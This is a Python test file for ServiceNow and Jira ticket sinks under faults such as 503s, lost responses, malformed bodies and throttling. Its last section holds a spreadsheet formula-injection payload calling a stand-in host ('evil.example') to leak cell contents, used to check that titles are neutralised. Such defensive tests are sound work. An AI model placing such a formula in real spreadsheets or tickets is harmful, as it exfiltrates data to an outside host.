"""ServiceNow and Jira sinks when the service answers the way production does under stress: answers
that are not the documented shape, a share of transient 503s, creates whose answer is lost, and
alert text written to be a spreadsheet formula (issue 18).

Each case once went wrong silently: a 200 with an error body read as "no ticket yet" (a second
ticket), one 503 made every later record of the batch wait for the router (most dead-lettered), a
create whose answer was cut short dead-lettered a record whose ticket exists, and a title starting
with `=` reached a ticket field as a formula.
"""

from __future__ import annotations

import json
import time

import orjson
import pytest

from pipeline.deliver.minimise import alert_key
from pipeline.errors import SinkOutage
from pipeline.runner import Message, Runner
from tests.support.config import pipeline_toml
from tests.support.itsm_servers import Chaos, Failure, jira_entry, jira_sink, publish, snow_entry, snow_sink
from tests.support.paths import FIXTURES
from tests.support.records import make_record

SHIPPED_DELIVERY: dict = {}  # the shipped [delivery] defaults: what production retries with









def alert_messages(count: int, prefix: str = "alert") -> list[Message]:
    document = json.loads((FIXTURES / "graph_alert_v2_dlp.json").read_bytes())
    return [Message(orjson.dumps(dict(document, id=f"{prefix}-{i:05d}"))) for i in range(count)]


# -- answers that are not the documented shape ---------------------------------------------------


@pytest.mark.parametrize("shape", ["error_body", "cut_short"])
async def test_servicenow_lookup_that_is_not_a_result_list_never_opens_a_second_ticket(httpserver, snow, shape):
    record = make_record("a-1")
    await publish(snow_sink(httpserver), [record])
    # A new process (no memory of the ticket): its lookup answers 200 with an error body, or half a body.
    snow.failures.append(Failure("GET", 200, shape=shape, after_acting=shape == "cut_short"))
    (outcome,) = await publish(snow_sink(httpserver), [make_record("a-1", severity="high")])
    assert len(snow.tickets) == 1 and snow.duplicates() == 0
    assert outcome.status == "delivered"  # the lookup was asked again, within the call
    (ticket,) = snow.tickets.values()
    assert ticket["impact"] == "1"


@pytest.mark.parametrize("shape", ["error_body", "cut_short"])
async def test_jira_search_that_is_not_an_issue_list_never_opens_a_second_issue(httpserver, jira, shape):
    await publish(jira_sink(httpserver), [make_record("a-1")])
    jira.failures.append(Failure("POST", 200, shape=shape, after_acting=shape == "cut_short", path="/rest/api/3/search/jql"))
    (outcome,) = await publish(jira_sink(httpserver), [make_record("a-1", severity="high")])
    assert len(jira.issues) == 1 and jira.duplicates() == 0
    assert outcome.status == "delivered"


async def test_a_create_answered_with_an_undocumented_success_code_is_retried_not_rejected(httpserver, jira):
    """Jira documents 201 for a create; a 200 with an error body (nothing created) is a transient
    failure: the record starts over and its issue is created, once."""
    jira.failures.append(Failure("POST", 200, shape="error_body", path="/rest/api/3/issue"))
    (outcome,) = await publish(jira_sink(httpserver), [make_record("a-1")])
    assert outcome.status == "delivered" and len(jira.issues) == 1


async def test_a_body_without_result_is_retryable_not_not_found(httpserver, snow, jira):
    """Every try answers 200 with an error body: the record stays retryable, nothing is created."""
    snow.chaos, jira.chaos = Chaos(error_body=1.0), Chaos(error_body=1.0)
    for sink in (snow_sink(httpserver), jira_sink(httpserver)):
        (outcome,) = await publish(sink, [make_record("a-1")])
        assert outcome.status == "retryable" and "not the documented" in (outcome.reason or "")
    assert not snow.tickets and not jira.issues


# -- a create whose answer was lost --------------------------------------------------------------


@pytest.mark.parametrize("failure", [Failure("POST", 200, after_acting=True, shape="cut_short"), Failure("POST", 500, after_acting=True)], ids=["cut_short", "500"])
async def test_servicenow_create_whose_answer_was_lost_is_found_by_its_key_and_delivered(httpserver, snow, write_config, failure):
    """One attempt only (max_attempts = 1): the sink itself looks the key up again and counts the
    ticket the lost create made as delivered, instead of a dead letter for a ticket that exists."""
    config = pipeline_toml(delivery={"max_attempts": 1, "budget_seconds": 10}, sinks=[snow_entry(httpserver)])
    snow.failures.append(failure)
    async with Runner(write_config(config)) as runner:
        report = await runner.process_batch(alert_messages(1))
        dead = await runner.dead_letter.list()
    assert report.delivered == {"snow": 1} and not dead
    assert len(snow.tickets) == 1 and [m for m, _, _ in snow.requests].count("POST") == 1


@pytest.mark.parametrize("failure", [Failure("POST", 201, after_acting=True, shape="cut_short"), Failure("POST", 500, after_acting=True)], ids=["cut_short", "500"])
async def test_jira_create_whose_answer_was_lost_is_found_by_its_key_and_delivered(httpserver, jira, write_config, failure):
    failure.path = "/rest/api/3/issue"
    config = pipeline_toml(delivery={"max_attempts": 1, "budget_seconds": 10}, sinks=[jira_entry(httpserver)])
    jira.failures.append(failure)
    async with Runner(write_config(config)) as runner:
        report = await runner.process_batch(alert_messages(1))
        dead = await runner.dead_letter.list()
    assert report.delivered == {"jira": 1} and not dead
    assert len(jira.issues) == 1


# -- one record's transient failure does not starve the others ------------------------------------


async def test_one_503_does_not_hold_back_the_rest_of_the_call(httpserver, snow):
    records = [make_record(f"a-{i}") for i in range(5)]
    snow.failures.append(Failure("GET", 503))
    outcomes = await publish(snow_sink(httpserver), records)
    assert [o.status for o in outcomes] == ["delivered"] * 5 and len(snow.tickets) == 5


async def test_a_long_retry_after_still_pauses_the_whole_call(httpserver, snow):
    """Throttling that asks for longer than the sink waits within a call: nothing more is sent."""
    snow.failures.append(Failure("GET", 429, {"Retry-After": "30"}))
    sink = snow_sink(httpserver)
    outcomes = await publish(sink, [make_record("a-1"), make_record("b-2")])
    assert [(o.status, o.retry_after) for o in outcomes] == [("retryable", 30.0)] * 2 and len(snow.requests) == 1


async def test_a_service_that_is_down_is_given_up_on_quickly(httpserver, snow):
    """Every call fails: the sink stops after a few records in a row instead of trying each one."""
    snow.chaos = Chaos(unavailable=1.0)
    started = time.monotonic()
    outcomes = await publish(snow_sink(httpserver), [make_record(f"a-{i}") for i in range(50)])
    assert all(o.status == "retryable" for o in outcomes) and time.monotonic() - started < 10
    assert len(snow.requests) < 30


async def test_200_alerts_at_30_percent_503s_are_delivered_in_one_run_without_duplicates(httpserver, snow, jira, write_config, capsys):
    """The measured case of issue 18: with the shipped [delivery] settings, 30 % of every request to
    ServiceNow and to Jira answered 503 (both sinks in one run, delivering side by side). At least
    95 % of the alerts must have their ticket and their issue after the first run, none twice."""
    snow.chaos, jira.chaos = Chaos(unavailable=0.3, seed=18), Chaos(unavailable=0.3, seed=81)
    config = pipeline_toml(delivery=SHIPPED_DELIVERY, sinks=[snow_entry(httpserver), jira_entry(httpserver)])
    started = time.monotonic()
    async with Runner(write_config(config)) as runner:
        try:
            report = await runner.process_batch(alert_messages(200))
            delivered = dict(report.delivered)
        except SinkOutage:
            delivered = {}
        dead = await runner.dead_letter.list()
    elapsed = time.monotonic() - started
    with capsys.disabled():
        for name, server, tickets in (("snow", snow, snow.tickets), ("jira", jira, jira.issues)):
            print(f"\n{name}: 200 alerts, 30 % 503s ({server.chaos.drawn.get('unavailable', 0)} of {len(server.requests)} requests): "
                  f"delivered {delivered.get(name, 0)}, dead-lettered {sum(1 for d in dead if d.sink == name)}, tickets {len(tickets)}, "
                  f"duplicates {server.duplicates()}; run {elapsed:.1f} s")
    for name, server, tickets in (("snow", snow, snow.tickets), ("jira", jira, jira.issues)):
        assert delivered.get(name, 0) >= 190 and server.duplicates() == 0, name
        assert len(tickets) == delivered[name]  # every delivered alert has its ticket, no ticket belongs to an undelivered one


# -- formula injection ---------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "＝1"])
def test_neutralise_formula_disarms_every_leading_formula_character(text):
    from pipeline.deliver.sinks.itsm import neutralise_formula

    assert neutralise_formula(text) == "'" + text
    assert neutralise_formula("DLP high: " + text) == "DLP high: " + text  # not leading: not a formula
    assert neutralise_formula("") == ""


async def test_a_title_written_as_a_formula_reaches_no_ticket_field_as_one(httpserver, snow, jira):
    record = make_record("a-1", title=FORMULA)
    field_map = {"short_description": "{alert.title}", "description": "{alert.title}", "u_note": "{alert.severity}"}
    await publish(snow_sink(httpserver, field_map=field_map), [record])
    await publish(jira_sink(httpserver, summary="{alert.title}"), [record])
    (ticket,) = snow.tickets.values()
    ((_, issue),) = jira.issues.items()
    assert ticket["short_description"] == "'" + FORMULA and ticket["description"] == "'" + FORMULA
    assert ticket["u_note"] == "medium" and ticket["correlation_id"] == alert_key(record)
    assert issue["fields"]["summary"] == "'" + FORMULA
